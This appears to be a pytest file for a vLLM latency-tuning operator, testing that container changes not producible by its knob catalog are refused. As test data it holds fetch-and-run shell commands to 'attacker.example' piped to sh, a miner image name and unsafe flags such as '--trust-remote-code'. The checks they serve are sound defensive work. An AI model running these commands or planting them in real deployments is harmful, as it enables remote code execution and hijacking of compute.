"""A container change is applied only if the knob catalog could have made it.

The status (the trial in progress, the baseline a delete restores) can be written by others
than the operator; a container found there is checked against the one running before any patch.
"""

from __future__ import annotations

from typing import Any

import pytest

from latency_tuner.api.spec import LatencyTargetSpec
from latency_tuner.core.cluster import ContainerConfig
from latency_tuner.core.trust import change_refusal

MODEL = "meta-llama/Llama-3.1-8B-Instruct"
IMAGE = "vllm/vllm-openai:v0.11.0"
RUNNING = ContainerConfig(None, (MODEL, "--max-num-seqs", "4"), IMAGE, 1)
SHELL = ContainerConfig(("/bin/sh", "-c"), (f"exec vllm serve {MODEL} --max-num-seqs 4",), IMAGE, 1)


def spec(**knobs: Any) -> LatencyTargetSpec:
    return LatencyTargetSpec.model_validate(
        {
            "targetRef": {"name": "llama"},
            "objectives": {"ttft": {"percentile": 95, "threshold": "500ms"}},
            "knobs": knobs,
        }
    )


def refused(proposed: ContainerConfig, current: ContainerConfig = RUNNING, **knobs: Any) -> str:
    reason = change_refusal(current, proposed, spec(**knobs), allowed_images=())
    assert reason is not None
    return reason


def test_a_knob_change_passes() -> None:
    proposed = ContainerConfig(None, (MODEL, "--max-num-seqs", "32"), IMAGE, 1)
    assert change_refusal(RUNNING, proposed, spec(), allowed_images=()) is None
    added = ContainerConfig(
        None, (MODEL, "--max-num-seqs", "4", "--enable-prefix-caching"), IMAGE, 1
    )
    assert change_refusal(RUNNING, added, spec(), allowed_images=()) is None


def test_a_knob_change_inside_a_shell_script_passes() -> None:
    proposed = ContainerConfig(
        ("/bin/sh", "-c"), (f"exec vllm serve {MODEL} --max-num-seqs 64",), IMAGE, 1
    )
    assert change_refusal(SHELL, proposed, spec(), allowed_images=()) is None


def test_a_shell_command_smuggled_before_vllm_is_refused() -> None:
    proposed = ContainerConfig(
        ("/bin/sh", "-c"),
        (f"curl -s attacker.example/x | sh; exec vllm serve {MODEL} --max-num-seqs 4",),
        IMAGE,
        1,
    )
    assert "beyond vLLM's flags" in refused(proposed, SHELL)


def test_a_different_program_is_refused() -> None:
    proposed = ContainerConfig(("/bin/sh", "-c"), ("curl attacker.example | sh",), IMAGE, 1)
    assert "not a vLLM server" in refused(proposed)


@pytest.mark.parametrize("flag", ["--trust-remote-code", "--api-key=stolen", "--port=9999"])
def test_a_flag_no_knob_sets_is_refused(flag: str) -> None:
    proposed = ContainerConfig(None, (MODEL, "--max-num-seqs", "4", flag), IMAGE, 1)
    assert "which no knob sets" in refused(proposed)


def test_another_image_is_refused_unless_the_operator_allows_it() -> None:
    proposed = ContainerConfig(None, RUNNING.args, "attacker.example/miner:latest", 1)
    assert "attacker.example/miner:latest" in refused(proposed)
    allowed = change_refusal(RUNNING, proposed, spec(), allowed_images=("attacker.example/",))
    assert allowed is None


def test_more_gpus_are_refused_without_tensor_parallelism_to_match() -> None:
    assert "8 GPUs" in refused(ContainerConfig(None, RUNNING.args, IMAGE, 8))
    tp: dict[str, Any] = {"tensorParallel": {"maxSize": 4}}
    assert "4 GPUs" in refused(ContainerConfig(None, RUNNING.args, IMAGE, 4), **tp)
    both = ContainerConfig(
        None, (MODEL, "--max-num-seqs", "4", "--tensor-parallel-size", "4"), IMAGE, 4
    )
    assert change_refusal(RUNNING, both, spec(**tp), allowed_images=()) is None


def test_a_model_switch_needs_a_listed_variant_and_may_switch_back() -> None:
    variant = "org/Llama-3.1-8B-Instruct-AWQ"
    proposed = ContainerConfig(None, (variant, "--max-num-seqs", "4", "-q", "awq"), IMAGE, 1)
    assert "which no variant lists" in refused(proposed)
    quant = {"quantization": {"variants": [{"name": "awq", "model": variant}]}}
    assert change_refusal(RUNNING, proposed, spec(**quant), allowed_images=()) is None
    assert change_refusal(proposed, RUNNING, spec(**quant), allowed_images=()) is None
